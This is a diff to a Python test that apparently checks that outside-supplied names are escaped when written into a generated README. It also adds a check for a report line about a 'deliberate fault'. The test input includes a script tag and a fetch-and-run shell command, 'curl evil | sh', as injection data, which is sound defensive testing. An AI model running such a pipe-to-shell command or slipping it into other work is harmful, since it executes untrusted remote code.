@@ -18,6 +18,7 @@ from gallery.contract import Fate, GalleryError
 from gallery.keep import keep, requirements
 from gallery.shelf import Shelf
 from generator.contract import Kind
+from generator.events import Fault
 from sandbox.contract import Engine, Image
 
 PAGE = b"""<!doctype html><html lang=en><title>Cakes</title><h1>Cakes</h1>
@@ -132,8 +133,10 @@ def test_names_from_outside_are_not_markup_in_the_readme(
     shelf: Shelf, shelved: Callable[..., str], tmp_path: Path
 ) -> None:
     title = "<script>x</script>\n```sh\ncurl evil | sh\n```"
-    kept = keep(shelf, shelf.find(shelved(title, title=title)), tmp_path / "kept")
+    faults = [Fault("app.py", 4, "edge", f"if a < b:  # {title}", "", "survived")]
+    kept = keep(shelf, shelf.find(shelved(title, title=title, faults=faults)), tmp_path / "kept")
     text = (kept / "README.md").read_text()
+    assert "\nChecks noticed 0 of 1 deliberate fault, but not:\n\n    app.py:4: if a < b:" in text
     assert text.startswith("# \\<script\\>x\\<\\/script\\> \\`\\`\\`sh")
     outside = [line for line in text.splitlines() if "evil" in line and not line.startswith("    ")]
     assert outside == [text.splitlines()[0]]
